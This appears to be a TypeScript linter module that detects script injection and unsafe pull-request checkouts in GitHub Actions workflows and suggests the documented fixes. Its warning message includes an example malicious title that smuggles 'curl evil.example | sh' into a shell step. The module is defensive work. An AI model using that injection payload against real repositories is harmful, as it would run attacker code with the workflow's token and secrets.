import { isAlias, isMap, isScalar, isSeq, LineCounter, parseDocument, type Document, type Node } from 'yaml';
import { boundedText } from '../report/safeText.ts';
import { expressionsIn, headContext, untrustedContext } from './workflowExpressions.ts';

export interface WorkflowFinding {
  ruleId: 'template-workflow-injection' | 'template-workflow-pr-target-checkout';
  /** Starts with the rendered file's path, line and column, as the other findings on the rendered tree do. */
  message: string;
  hint: string;
}

// The triggers that run with the base repository's secrets and a token that can write, whatever the pull
// request's author may do: GitHub's docs warn against checking out the pull request's code under them.
const PRIVILEGED_TRIGGERS = ['pull_request_target', 'workflow_run'];

/**
 * The two patterns GitHub's "Security hardening for GitHub Actions" warns about, in one rendered workflow:
 * an untrusted context expanded into a step's `run:` (or actions/github-script's `script:`), and a
 * pull_request_target or workflow_run workflow whose actions/checkout step checks out the pull request's head.
 * A value passed through `env:` (the documented fix) is not in the script and is not reported. Nothing is
 * said of a file that does not parse (template-output-invalid says that). Pure; the caller bounds the text.
 */
export function workflowSecurityFindings(path: string, text: string): WorkflowFinding[] {
  const lineCounter = new LineCounter();
  const doc = parseDocument(text, { lineCounter, keepSourceTokens: false, logLevel: 'silent' });
  if (doc.errors.length || !isMap(doc.contents)) return [];
  const shownPath = boundedText(path, 200);
  const found = new Map<string, WorkflowFinding>();
  const at = (offset: number) => {
    const { line, col } = lineCounter.linePos(offset);
    return `${shownPath}:${line}:${col}`;
  };
  const triggers = triggerNames(get(doc, doc.contents, 'on')).filter(t => PRIVILEGED_TRIGGERS.includes(t));
  const jobs = get(doc, doc.contents, 'jobs');
  for (const job of isMap(jobs) ? jobs.items.map(pair => resolve(doc, pair.value as Node | null)) : []) {
    const steps = get(doc, job, 'steps');
    for (const step of isSeq(steps) ? steps.items.map(item => resolve(doc, item as Node | null)) : []) {
      const uses = scalarText(get(doc, step, 'uses'));
      const inputs = get(doc, step, 'with');
      const scripts: [Node | undefined, string][] = [[get(doc, step, 'run'), 'shell script']];
      if (/^actions\/github-script(@|$)/i.test(uses ?? '')) scripts.push([get(doc, inputs, 'script'), 'JavaScript']);
      for (const [node, language] of scripts) {
        const value = scalarText(node);
        if (value === undefined || !node?.range) continue;
        let offsets: number[] | undefined;
        for (const expression of expressionsIn(value)) {
          const context = untrustedContext(expression.text);
          if (context === undefined) continue;
          offsets ??= expressionOffsets(text, node.range);
          const where = at(offsets[expression.index] ?? node.range[0]);
          found.set(`i${where}`, injection(where, expression.text, context, language));
        }
      }
      if (!triggers.length || !/^actions\/checkout(@|$)/i.test(uses ?? '')) continue;
      for (const key of ['ref', 'repository']) {
        const node = get(doc, inputs, key);
        const value = scalarText(node);
        if (value === undefined || !node?.range) continue;
        const head = expressionsIn(value).find(e => headContext(e.text) !== undefined);
        const pull = /refs\/pull\//.test(value);
        if (!head && !pull) continue;
        const where = at(head ? expressionOffsets(text, node.range)[head.index] ?? node.range[0] : node.range[0]);
        found.set(`c${where}`, headCheckout(where, triggers, key, boundedText(head?.text ?? value.replace(/\s+/g, ' '), 120)));
      }
    }
  }
  return firstFew([...found.values()]);
}

/** A skeleton loop can paste one expression into thousands of steps: the first few of each rule, the last counting the rest. */
function firstFew(findings: WorkflowFinding[], few = 5): WorkflowFinding[] {
  const kept: WorkflowFinding[] = [];
  for (const ruleId of ['template-workflow-injection', 'template-workflow-pr-target-checkout'] as const) {
    const mine = findings.filter(f => f.ruleId === ruleId);
    kept.push(...mine.slice(0, few));
    if (mine.length > few) kept[kept.length - 1] = { ...kept[kept.length - 1], message: `${kept[kept.length - 1].message} This file has ${mine.length - few} more like it, not listed.` };
  }
  return kept;
}

function injection(where: string, expression: string, context: string, language: string): WorkflowFinding {
  const last = (context.split('.').pop() ?? '').toUpperCase();
  const name = /^[A-Z_][A-Z0-9_]{0,39}$/.test(last) ? last : 'VALUE';
  const shown = boundedText(expression, 120);
  const javascript = language === 'JavaScript';
  return {
    ruleId: 'template-workflow-injection',
    message: `${where}: ${shown} is pasted into the step's ${language} before it runs. Every repository this template creates gets a workflow where anyone who can open an issue or pull request, comment, or name a branch or commit can run ${javascript ? 'code' : 'commands'} with its token and secrets, by writing them into that text (a title such as a"; curl evil.example | sh; echo ").`,
    hint: `Pass it through env: (env: {${name}: ${shown}}) and use ${javascript ? `process.env.${name}` : `"$${name}"`} in the ${javascript ? 'script' : 'run: script'}, as GitHub's "Security hardening for GitHub Actions" advises.`,
  };
}

function headCheckout(where: string, triggers: readonly string[], key: string, shown: string): WorkflowFinding {
  return {
    ruleId: 'template-workflow-pr-target-checkout',
    message: `${where}: this workflow runs on ${triggers.join(' and ')}, with the repository's secrets and a token that can write, and its actions/checkout step checks out the pull request's own code (${key}: ${shown}). Every repository this template creates gets a workflow where anyone who opens a pull request can run commands with its token: the build scripts, package.json or setup.py of their branch run in the steps after the checkout.`,
    hint: 'Use on: pull_request (no secrets and a read-only token for pull requests from forks), or check out the base ref (leave ref unset) and never run the pull request\'s code under pull_request_target, as GitHub\'s "Security hardening for GitHub Actions" advises.',
  };
}

/**
 * The trigger names of `on:`: a name, a list of names, or a mapping keyed by them. Unknown shapes give none
 * (GitHub's parser reports them).
 */
function triggerNames(on: Node | undefined): string[] {
  if (isScalar(on)) return [String(on.value)];
  if (isSeq(on)) return on.items.flatMap(item => (isScalar(item) ? [String(item.value)] : []));
  if (isMap(on)) return on.items.flatMap(pair => (isScalar(pair.key) ? [String(pair.key.value)] : []));
  return [];
}

/** The value at `key` of a mapping node (an alias followed to its anchor), else undefined. */
function get(doc: Document, node: Node | null | undefined, key: string): Node | undefined {
  if (!isMap(node)) return undefined;
  const pair = node.items.find(p => isScalar(p.key) && p.key.value === key);
  return resolve(doc, (pair?.value as Node | null | undefined) ?? null);
}

function resolve(doc: Document, node: Node | null): Node | undefined {
  // An alias is followed one step: its anchor's node is where the text, and so the finding, is.
  return (isAlias(node) ? (node.resolve(doc) as Node | undefined) : node) ?? undefined;
}

function scalarText(node: Node | undefined): string | undefined {
  return isScalar(node) && typeof node.value === 'string' ? node.value : undefined;
}

/**
 * The offsets of the expressions in a scalar's source (a block scalar's lines, a quoted string's text), in
 * order: its value holds the same ones in the same order, so the nth expression of the value is at the nth.
 */
function expressionOffsets(text: string, range: readonly number[]): number[] {
  return expressionsIn(text.slice(range[0], range[1])).map(e => range[0] + e.start);
}
